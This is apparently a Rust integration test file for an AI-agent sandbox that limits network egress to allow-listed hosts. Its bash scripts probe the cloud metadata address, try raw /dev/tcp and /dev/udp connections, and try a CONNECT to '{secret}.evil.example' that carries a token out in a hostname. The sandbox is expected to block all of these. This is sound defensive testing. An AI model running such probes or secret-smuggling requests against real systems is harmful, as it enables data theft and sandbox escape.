//! Tests that programs without a network reach the allowed hosts and no others (S11).

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::sync::mpsc;
use std::time::Duration;

use regatta_agents::sandbox::{self, SandboxMechanism};
use regatta_core::agent::{Profile, SandboxLevel};
use regatta_engine::ports::agents::{Agents, Exit, JournalStream, McpServer, ProgramLaunch};

use crate::support::{A1, TEST_TIMEOUT, World, adapter, eventually, fixture};

/// Starts a server on loopback that answers every connection with a line. The receiver gets the
/// requests.
fn start_server(answer: &'static str) -> (SocketAddr, mpsc::Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let (sender, requests) = mpsc::channel();
    std::thread::spawn(move || {
        for client in listener.incoming() {
            let mut client = client.unwrap();
            let mut buffer = [0; 1024];
            let length = client.read(&mut buffer).unwrap_or(0);
            drop(sender.send(String::from_utf8_lossy(&buffer[..length]).into_owned()));
            drop(client.write_all(answer.as_bytes()));
        }
    });
    (address, requests)
}

/// Returns a sandboxed launch of a bash script that may reach only these hosts.
fn sandboxed_launch(
    world: &World,
    level: SandboxLevel,
    hosts: &[String],
    script: &str,
) -> ProgramLaunch {
    let profile = Profile {
        sandbox: Some(level),
        egress: hosts.to_vec(),
        ..Profile::default()
    };
    ProgramLaunch {
        profile,
        ..world.launch(&["bash", "-c", script])
    }
}

/// Returns whether this machine supports lists of hosts.
fn has_namespaces() -> bool {
    let best = sandbox::detect_mechanisms(fixture().as_ref()).best_mechanism();
    matches!(
        best,
        Some(SandboxMechanism::Bubblewrap | SandboxMechanism::Namespaces)
    )
}

/// A bash function that sends a request to the proxy and prints the first line of the answer.
const ASK_FUNCTION: &str = r#"
P=${HTTPS_PROXY#http://}
ask() { exec 3<>/dev/tcp/${P%:*}/${P#*:} && printf "$1 HTTP/1.1\r\nHost: x\r\n\r\n" >&3 && head -1 <&3 | tr -d '\r'; exec 3>&-; }
"#;

#[test]
fn s11_a_program_reaches_a_listed_host_and_no_other() {
    if !has_namespaces() {
        return;
    }
    let (listed, listed_requests) = start_server("HTTP/1.1 200 served\r\n\r\n");
    let (unlisted, unlisted_requests) = start_server("HTTP/1.1 200 not this\r\n\r\n");
    let world = World::new();
    let script = format!(
        "{ASK_FUNCTION}
ask 'GET http://{listed}/x?y'
ask 'GET http://{unlisted}/'
ask 'CONNECT {unlisted}'
ask 'CONNECT localhost:{port}'
ask 'CONNECT sub.listed.example:8443'
ask 'CONNECT 169.254.169.254:80'
for to in {listed} {unlisted} 192.0.2.1:443; do (exec 4<>/dev/tcp/${{to%:*}}/${{to#*:}}) 2>/dev/null && echo straight to $to; done
exec 5<>/dev/udp/192.0.2.1/53 2>/dev/null && echo udp
env | grep -ci _proxy
ls -A $TMPDIR | grep egress; true",
        port = listed.port()
    );
    let hosts = [
        listed.to_string(),
        format!("localhost:{}", unlisted.port()),
        "*.listed.example".to_owned(),
    ];
    world
        .adapter
        .start(&sandboxed_launch(
            &world,
            SandboxLevel::Strict,
            &hosts,
            &script,
        ))
        .unwrap();
    assert_eq!(world.wait(), Exit::Code(0), "{}", world.output());
    let refused = "HTTP/1.1 403 Forbidden\n".repeat(5);
    assert_eq!(
        world.lines(JournalStream::Out).join("\n"),
        format!("HTTP/1.1 200 served\n{refused}9"),
        "{}",
        world.output()
    );
    assert!(
        listed_requests
            .recv_timeout(TEST_TIMEOUT)
            .unwrap()
            .starts_with("GET /x?y HTTP/1.1\r\nHost: 127.0.0.1:")
    );
    assert!(unlisted_requests.try_recv().is_err());
    let marks: Vec<String> = world
        .records()
        .iter()
        .filter(|record| record.stream == JournalStream::Mark)
        .filter_map(regatta_agents::record_text)
        .collect();
    // The fifth refusal has no record, because the same host was refused before.
    assert_eq!(marks.len(), 4, "{marks:?}");
    assert!(
        marks[0].contains(&format!(
            "connection to {unlisted} was refused: the host is not among the hosts that the agent \
            may reach"
        )),
        "{marks:?}"
    );
    world.assert_nothing_runs();
}

#[test]
fn s11_a_listed_name_that_resolves_to_this_machine_is_refused() {
    if !has_namespaces() {
        return;
    }
    let (address, requests) = start_server("HTTP/1.1 200 served\r\n\r\n");
    let name = format!("localhost:{}", address.port());
    for (also, answer) in [
        (None, "403 Forbidden"),
        (Some(address.to_string()), "200 served"),
    ] {
        let world = World::new();
        let hosts: Vec<String> = also.iter().cloned().chain([name.clone()]).collect();
        world
            .adapter
            .start(&sandboxed_launch(
                &world,
                SandboxLevel::Workspace,
                &hosts,
                &format!("{ASK_FUNCTION} ask 'GET http://{name}/'"),
            ))
            .unwrap();
        assert_eq!(world.wait(), Exit::Code(0), "{}", world.output());
        assert_eq!(
            world.lines(JournalStream::Out),
            [format!("HTTP/1.1 {answer}")],
            "{}",
            world.output()
        );
        assert_eq!(requests.try_recv().is_ok(), also.is_some());
        assert_eq!(
            world
                .lines(JournalStream::Mark)
                .iter()
                .any(|line| line.contains("resolves to 127.0.0.1")),
            also.is_none()
        );
    }
}

#[test]
fn program_without_network_reaches_its_mcp_server_only() {
    if !has_namespaces() {
        return;
    }
    let (tools, requests) = start_server("HTTP/1.1 200 tools\r\n\r\n");
    let (other, _) = start_server("HTTP/1.1 200 not this\r\n\r\n");
    for hosts in [vec![], vec!["api.example.com".to_owned()]] {
        let world = World::new();
        let script = format!(
            "exec 3<>/dev/tcp/127.0.0.1/{}; printf 'POST /mcp HTTP/1.1\\r\\n\\r\\n' >&3; head -1 \
            <&3 | tr -d '\\r'; (exec 4<>/dev/tcp/127.0.0.1/{}) 2>/dev/null || echo closed",
            tools.port(),
            other.port()
        );
        let mut launch = sandboxed_launch(&world, SandboxLevel::Strict, &hosts, &script);
        launch.mcp = Some(McpServer {
            url: format!("http://{tools}/mcp"),
            token: "t0ken".to_owned(),
        });
        world.adapter.start(&launch).unwrap();
        assert_eq!(world.wait(), Exit::Code(0), "{}", world.output());
        assert_eq!(
            world.lines(JournalStream::Out),
            ["HTTP/1.1 200 tools", "closed"],
            "{}",
            world.output()
        );
        assert!(
            requests
                .recv_timeout(TEST_TIMEOUT)
                .unwrap()
                .starts_with("POST /mcp")
        );
    }
}

#[test]
fn p1_the_proxy_outlives_the_daemon_and_ends_with_the_program() {
    if !has_namespaces() {
        return;
    }
    let (address, _requests) = start_server("HTTP/1.1 200 served\r\n\r\n");
    let world = World::new();
    let script = format!(
        "{ASK_FUNCTION} ask 'GET http://{address}/1'; touch first; until test -e again; do sleep \
        0.02; done; ask 'GET http://{address}/2'; (setsid sleep 1000 &) ; exec 3>&-; touch \
        second; exec sleep 1000"
    );
    world
        .adapter
        .start(&sandboxed_launch(
            &world,
            SandboxLevel::Strict,
            &[address.to_string()],
            &script,
        ))
        .unwrap();
    world.wait_for("first");
    // A daemon that restarts knows only the files on the disk.
    let restarted = adapter(&world.data());
    std::fs::write(world.workspace.join("again"), "").unwrap();
    world.wait_for("second");
    eventually("both answers are printed", || {
        world.lines(JournalStream::Out).len() == 2
    });
    assert_eq!(world.lines(JournalStream::Out), ["HTTP/1.1 200 served"; 2]);
    let shim = world.shim_identity();
    restarted.stop(A1, Duration::ZERO).unwrap();
    eventually("the shim is gone", || {
        !std::path::Path::new(&format!("/proc/{}/task", shim.pid)).exists()
    });
    world.assert_nothing_runs();
}

#[test]
fn s4_a_secret_in_a_refused_host_is_not_recorded() {
    if !has_namespaces() {
        return;
    }
    let world = World::new();
    let secret = "s3cretValueThatIsLong";
    let script = format!("{ASK_FUNCTION} ask 'CONNECT {secret}.evil.example:443'");
    let mut launch = sandboxed_launch(
        &world,
        SandboxLevel::Workspace,
        &["api.example.com".to_owned()],
        &script,
    );
    launch.mcp = Some(McpServer {
        url: "http://127.0.0.1:61234/mcp".to_owned(),
        token: secret.to_owned(),
    });
    world.adapter.start(&launch).unwrap();
    assert_eq!(world.wait(), Exit::Code(0), "{}", world.output());
    let marks = world.lines(JournalStream::Mark);
    assert!(
        marks[0].contains(".evil.example:443") && !marks[0].contains(secret),
        "{marks:?}"
    );
}

#[test]
fn s11_a_list_of_hosts_that_cannot_be_enforced_stops_the_start() {
    let world = World::new();
    let off = sandboxed_launch(
        &world,
        SandboxLevel::Off,
        &["api.example.com".to_owned()],
        "touch started",
    );
    let error = world.adapter.start(&off).unwrap_err();
    assert!(
        error.message.contains("it has no sandbox"),
        "{}",
        error.message
    );
    let launch_with_bad_host = sandboxed_launch(
        &world,
        SandboxLevel::Strict,
        &["*".to_owned()],
        "touch started",
    );
    let error = world.adapter.start(&launch_with_bad_host).unwrap_err();
    assert!(
        error.message.contains("is not a host") || error.message.contains("Landlock"),
        "{}",
        error.message
    );
    assert!(!world.workspace.join("started").exists());
}
